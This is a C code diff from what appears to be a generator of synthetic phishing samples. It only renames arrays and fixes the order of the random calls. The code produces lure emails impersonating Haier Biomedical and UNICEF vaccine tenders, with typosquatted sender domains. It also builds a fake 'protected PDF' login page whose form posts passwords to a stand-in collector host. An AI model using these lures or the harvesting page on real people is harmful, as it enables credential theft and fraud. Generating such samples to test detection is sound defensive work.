@@ -2,17 +2,17 @@
 
 const char *lure_title(struct prng *prng)
 {
-    static const char *const TITLES[] = {
+    static const char *const titles[] = {
         "RFQ - UNICEF CCEOP and Vaccine Project", "RFQ - UNICEF CCEOP and Vaccine Project",
         "RFQ - UNICEF CCEOP and Vaccine Program", "RFQ - UNICEF CCEOP and Vaccine Programme",
         "RFQ - UNICEF CCEOP & Vaccine Project",   "RFQ - UNICEF CCEOP & Vaccine Program",
     };
-    return TITLES[prng_below(prng, 6)];
+    return titles[prng_below(prng, 6)];
 }
 
 const char *lure_claimed_name(struct prng *prng)
 {
-    static const char *const NAMES[] = {
+    static const char *const names[] = {
         "Haier Biomedical",
         "HAIER BIOMEDICAL",
         "haier.biomedical",
@@ -22,27 +22,27 @@ const char *lure_claimed_name(struct prng *prng)
         "Deng Haoran - Haier Biomedical",
         "Project Office Africa, Haier Biomedical",
     };
-    return NAMES[prng_below(prng, 8)];
+    return names[prng_below(prng, 8)];
 }
 
 void lure_imitating_address(struct prng *prng, struct buffer *out)
 {
-    static const char *const LOCAL_PARTS[] = {"deng.haoran", "lin.qiaoyun", "africa.projects",
+    static const char *const local_parts[] = {"deng.haoran", "lin.qiaoyun", "africa.projects",
                                               "export", "contracts"};
-    static const char *const DOMAINS[] = {
+    static const char *const domains[] = {
         "haierbiomedical.example", "haier-biomedical.example", "haierbiomedica1.example",
         "haiermedical.example",    "haierbiomedicals.example", "haierbiomedical-africa.example",
     };
-    const char *local_part = LOCAL_PARTS[prng_below(prng, 5)];
-    buffer_format(out, "%s@%s", local_part, DOMAINS[prng_below(prng, 6)]);
+    const char *local_part = local_parts[prng_below(prng, 5)];
+    buffer_format(out, "%s@%s", local_part, domains[prng_below(prng, 6)]);
 }
 
 void lure_text(struct letter *letter, const char *salutation, const char *title, struct buffer *out)
 {
-    static const char *const MODELS[] = {"HBC-260", "HBCD-90", "HTC-112", "HTCD-160", "HTC-40"};
+    static const char *const models[] = {"HBC-260", "HBCD-90", "HTC-112", "HTCD-160", "HTC-40"};
     struct prng *prng = &letter->prng;
     uint32_t quantity = 480 + 5 * prng_below(prng, 9);
-    const char *model = MODELS[prng_below(prng, 5)];
+    const char *model = models[prng_below(prng, 5)];
     buffer_format(out, "%s\n\n", salutation);
     switch (prng_below(prng, 3)) {
     case 0:
@@ -77,24 +77,24 @@ void lure_text(struct letter *letter, const char *salutation, const char *title,
 
 void lure_signature(struct letter *letter, bool claims_name, struct buffer *out)
 {
-    static const char *const ROLES_CLAIMED[] = {
+    static const char *const roles_claimed[] = {
         "Project Manager for Africa",
         "Regional Sales Director",
         "Business Manager, Cold Chain",
     };
     buffer_format(out, "Best regards,\n\nDeng Haoran\n%s\n%s\n",
-                  ROLES_CLAIMED[prng_below(&letter->prng, 3)],
+                  roles_claimed[prng_below(&letter->prng, 3)],
                   claims_name ? "Haier Biomedical" : "Vaccine Cold Chain Office");
 }
 
 void lure_page(struct letter *letter, const char *charset, const char *address, struct buffer *out)
 {
-    static const char *const INPUTS[] = {
+    static const char *const inputs[] = {
         "<input type=\"password\" name=\"pass\" placeholder=\"Password\" required>",
         "<INPUT TYPE='password' NAME='pw'>",
         "<input class=\"field\" name=\"code\" type=password autocomplete=\"off\">",
     };
-    static const char *const SCRIPTS[] = {"next", "post", "login", "pdf"};
+    static const char *const scripts[] = {"next", "post", "login", "pdf"};
     struct prng *prng = &letter->prng;
     buffer_format(out,
                   "<!DOCTYPE html>\n<html>\n<head>\n<meta charset=\"%s\">\n"
@@ -102,12 +102,15 @@ void lure_page(struct letter *letter, const char *charset, const char *address, 
                   "font-family: sans-serif; }\n.sheet { background: white; width: 40em; margin: "
                   "4em auto; padding: 2em; }\n</style>\n</head>\n<body>\n",
                   charset);
+    uint32_t host = prng_below(prng, 40);
+    uint32_t folder = prng_below(prng, 65536);
+    const char *script = scripts[prng_below(prng, 4)];
     buffer_format(out,
                   "<div class=\"sheet\">\n<h1>PDF document</h1>\n<p>This file is protected. Sign "
                   "in with your mail account to view the document.</p>\n"
                   "<form method=\"post\" action=\"https://collector-%02u.example/%x/%s.php\">\n",
-                  prng_below(prng, 40), prng_below(prng, 65536), SCRIPTS[prng_below(prng, 4)]);
+                  host, folder, script);
     buffer_format(out, "<input type=\"text\" name=\"user\" value=\"%s\" readonly>\n%s\n", address,
-                  INPUTS[prng_below(prng, 3)]);
+                  inputs[prng_below(prng, 3)]);
     buffer_text(out, "<button>View document</button>\n</form>\n</div>\n</body>\n</html>\n");
 }
